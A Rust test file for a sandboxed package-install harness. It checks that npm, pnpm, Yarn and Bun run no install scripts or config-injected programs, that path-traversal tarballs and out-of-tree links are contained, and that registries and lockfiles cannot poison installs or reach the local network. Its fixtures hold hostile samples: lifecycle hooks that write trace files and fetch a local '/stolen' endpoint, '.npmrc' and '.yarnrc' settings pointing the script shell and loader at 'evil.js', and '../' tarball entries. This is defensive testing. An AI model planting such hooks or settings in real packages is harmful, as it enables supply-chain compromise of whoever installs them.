//! Packages, lockfiles and settings that want more than to be installed.

use crate::support::{APP, LONG, Yard, class, small_registry};
use benchwright_fixtures::{Package, Registry, Server, Site};
use benchwright_sandbox::Manager;
use benchwright_sandbox::packages::lockfile::lockfiles;
use benchwright_sandbox::packages::{self, Job};
use benchwright_scoring::evidence::install::FailureClass;
use benchwright_scoring::gather::install::{Installed, within};
use std::fs;
use std::path::Path;
use std::time::Duration;

/// A command that leaves a trace wherever it can, and calls a server of ours.
fn evil(yard: &Yard, home: &Server) -> String {
    let outside = yard.base.path().join("was-here");
    let port = home.port();
    format!(
        "touch {} was-here /tmp/benchwright-was-here; node -e \"fetch('http://127.0.0.1:{port}/stolen')\"",
        outside.display()
    )
}

fn traces(folder: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                folders.push(entry.path());
            } else if entry.file_name().to_string_lossy().contains("was-here") {
                found.push(entry.path().display().to_string());
            }
        }
    }
    found
}

#[tokio::test]
async fn no_script_of_a_package_of_the_app_or_of_a_setting_runs() {
    let home = Server::start(Site::html("home")).unwrap();
    let registry = small_registry();
    let yard = Yard::new(&registry.url());
    let command = evil(&yard, &home);
    let registry = Registry::start([
        Package::new("trunk", "1.0.0")
            .needs("leaf", "^1.0.0")
            .script("postinstall", &command)
            .script("preinstall", &command),
        Package::new("leaf", "1.0.1").script("install", &command),
    ])
    .unwrap();
    let mut yard = yard;
    yard.bench.registry.registry = registry.url();
    yard.put("package.json", APP);
    for manager in [Manager::Npm, Manager::Pnpm, Manager::Bun, Manager::YarnClassic] {
        yard.lock(manager).await;
    }
    let scripts =
        serde_json::json!({"preinstall": command, "install": command, "postinstall": command, "prepare": command});
    let mut app: serde_json::Value = serde_json::from_str(APP).unwrap();
    app["scripts"] = scripts;
    let program = "require('fs').writeFileSync('was-here', '')";
    yard.put("package.json", app.to_string())
        .put(".pnpmfile.cjs", program)
        .put("evil.js", program)
        .put(".yarnrc", "yarn-path \"./evil.js\"\n")
        .put(".npmrc", "ignore-scripts=false\nscript-shell=./evil.js\nnode-options=--require=./evil.js\n");
    let (install, _) = yard.install().await;
    assert_eq!(install.attempts.len(), 4);
    assert!(install.attempts.iter().all(|attempt| attempt.failure.is_none()), "{install:?}");
    assert_eq!(traces(yard.base.path()), Vec::<String>::new());
    assert!(!Path::new("/tmp/benchwright-was-here").exists());
    assert_eq!(home.requests().len(), 0);
    assert!(install.left_out.contains(&"`script-shell` in `.npmrc`".to_owned()), "{:?}", install.left_out);
}

#[tokio::test]
async fn plugins_of_modern_yarn_do_not_run() {
    let registry = small_registry();
    let yard = Yard::new(&registry.url());
    yard.put("package.json", APP).lock(Manager::YarnBerry).await;
    let program = "require('fs').writeFileSync('was-here', ''); module.exports = {name: 'evil', factory: () => ({})};";
    yard.put(".yarnrc.yml", "yarnPath: ./evil.cjs\nplugins:\n  - ./evil.cjs\n").put("evil.cjs", program);
    let (install, _) = yard.install().await;
    assert_eq!(install.attempts[0].failure, None, "{install:?}");
    assert_eq!(traces(yard.base.path()), Vec::<String>::new());
}

#[tokio::test]
async fn a_tarball_that_climbs_out_leaves_nothing_outside() {
    let climbing = |to: &str| format!("package/{}{to}", "../".repeat(12));
    let trunk = Package::new("trunk", "1.0.0")
        .file(&climbing("tmp/benchwright-was-here"), "x")
        .file("package/../../../../was-here", "x")
        .file("/tmp/benchwright-was-here", "x");
    let registry = Registry::start([trunk]).unwrap();
    let yard = Yard::new(&registry.url());
    yard.put("package.json", APP).lock(Manager::Npm).await.lock(Manager::Bun).await;
    yard.install().await;
    assert!(!Path::new("/tmp/benchwright-was-here").exists());
    // Inside the package's own folder, where some managers put such a file, it does no harm.
    let is_contained = |path: &String| path.contains("/install-") || path.contains("/cache/bun-");
    let outside: Vec<_> = traces(yard.base.path()).into_iter().filter(|path| !is_contained(path)).collect();
    assert_eq!(outside, Vec::<String>::new());
}

#[tokio::test]
async fn a_path_outside_the_tree_and_links_in_it_do_not_read_this_machine() {
    let yard = Yard::new(&small_registry().url());
    let secret = yard.base.path().join("secret");
    fs::create_dir(&secret).unwrap();
    fs::write(secret.join("package.json"), r#"{"name":"secret","version":"1.0.0"}"#).unwrap();
    std::os::unix::fs::symlink(&secret, yard.source().join("linked")).unwrap();
    // From the copy, which lies in a folder of its own in the run's scratch folder.
    let outside = "../../../../secret";
    let app = serde_json::json!({"name": "app", "version": "1.0.0",
        "dependencies": {"outside": format!("file:{outside}"), "linked": "file:linked"}});
    let lock = serde_json::json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": app["dependencies"]},
        outside: {"name": "secret", "version": "1.0.0"},
        "linked": {"name": "linked", "version": "1.0.0"},
        "node_modules/outside": {"resolved": outside, "link": true},
        "node_modules/linked": {"resolved": "linked", "link": true}}});
    yard.put("package.json", app.to_string()).put("package-lock.json", lock.to_string());
    let (install, installed) = yard.install().await;
    let checkout = installed.unwrap_or_else(|| panic!("{install:?}")).checkout;
    assert_eq!(install.attempts[0].failure, None, "{install:?}");
    assert!(!checkout.join("linked").exists(), "the link was copied");
    assert!(!checkout.join("node_modules/linked/package.json").exists());
    let outside = checkout.join("node_modules/outside");
    assert!(fs::symlink_metadata(&outside).unwrap().is_symlink(), "what is outside was copied");
    assert_eq!(
        fs::canonicalize(&outside).unwrap(),
        fs::canonicalize(&secret).unwrap(),
        "the lockfile names another place"
    );
}

/// Packages of one name and version, and another content, as a registry of the app's own would give out.
async fn installs_what_its_lockfile_says_after_another_app_had_its_own_registry(manager: Manager) {
    let evil = Package::new("trunk", "1.0.0").needs("leaf", "^1.0.0").file("package/evil.js", "evil()");
    let evil = Registry::start([evil, Package::new("leaf", "1.0.1").file("package/evil.js", "evil()")]).unwrap();
    let registry = small_registry();
    let mut yard = Yard::new(&registry.url());
    yard.put("package.json", APP).lock(manager).await;
    let name = lockfiles(&yard.source())[0].name;
    let lock = fs::read(yard.source().join(name)).unwrap();
    let is_evil =
        |installed: Option<Installed>| installed.unwrap().checkout.join("node_modules/trunk/evil.js").exists();

    yard.bench.registry.registry = evil.url();
    yard.lock(manager).await;
    let (_, installed) = yard.install().await;
    assert!(is_evil(installed), "{manager:?} did not install the other app");
    yard.put(".npmrc", format!("registry={}\n", evil.url()))
        .put(".yarnrc.yml", format!("npmRegistryServer: {}\nchecksumBehavior: ignore\n", evil.url()))
        .put(name, &lock);
    yard.install().await;

    yard.bench.registry.registry = registry.url();
    fs::remove_file(yard.source().join(".npmrc")).unwrap();
    fs::remove_file(yard.source().join(".yarnrc.yml")).unwrap();
    let (install, installed) = yard.install().await;
    assert_eq!(install.attempts[0].failure, None, "{install:?}");
    assert!(!is_evil(installed), "{manager:?}");
}

#[tokio::test]
async fn a_registry_that_an_app_names_spoils_no_install_of_another_app() {
    for manager in [Manager::Npm, Manager::Pnpm, Manager::YarnClassic, Manager::YarnBerry, Manager::Bun] {
        installs_what_its_lockfile_says_after_another_app_had_its_own_registry(manager).await;
    }
}

#[tokio::test]
async fn a_lockfile_cannot_send_the_manager_into_the_local_network() {
    let neighbour = Server::start(Site::html("internal")).unwrap();
    let registry = small_registry();
    let yard = Yard::new(&registry.url());
    yard.put("package.json", APP).lock(Manager::Npm).await;
    let lock = fs::read_to_string(yard.source().join("package-lock.json")).unwrap();
    yard.put("package-lock.json", lock.replace(&registry.url(), "http://10.255.255.1/"));
    let (install, _) = yard.install().await;
    assert_eq!(class(&install.attempts[0]), Some(FailureClass::PrivateRegistry), "{install:?}");
    yard.put("package-lock.json", lock.replace(&registry.url(), &neighbour.url()));
    let (install, _) = yard.install().await;
    assert!(install.attempts[0].failure.is_some());
    assert_eq!(neighbour.requests().len(), 0);
}

#[tokio::test]
async fn a_registry_that_falls_silent_costs_the_time_limit_and_no_points() {
    let registry = small_registry();
    let yard = Yard::new(&registry.url());
    yard.put("package.json", APP).lock(Manager::Npm).await;
    let silent = Registry::silent().unwrap();
    let lock = fs::read_to_string(yard.source().join("package-lock.json")).unwrap();
    let away = Yard::new(&silent.url());
    away.put("package.json", APP).put("package-lock.json", lock.replace(&registry.url(), &silent.url()));
    let (install, _) = within(&away.tree(), &away.bench, &away.scratch, Duration::from_secs(15)).await.unwrap();
    assert_eq!(class(&install.attempts[0]), Some(FailureClass::RegistryUnreachable), "{install:?}");
    assert!(!silent.requests().is_empty(), "npm had asked");
}

#[tokio::test]
async fn a_flood_of_output_is_cut_off() {
    let yard = Yard::new("http://127.0.0.1:4873/");
    let work = yard.scratch.fresh_folder("flood").unwrap();
    let job = Job {
        manager: Manager::Npm,
        words: &["help"],
        work: &work,
        folder: &work,
        cache_key: "",
        time: LONG,
        output_bytes: 100,
    };
    let done = packages::run(&job, &yard.bench.instruments, &yard.bench.registry, &yard.scratch).await.unwrap();
    assert!(done.finished.truncated, "{:?}", done.finished);
    assert_eq!(done.finished.stdout.len(), 100);
}
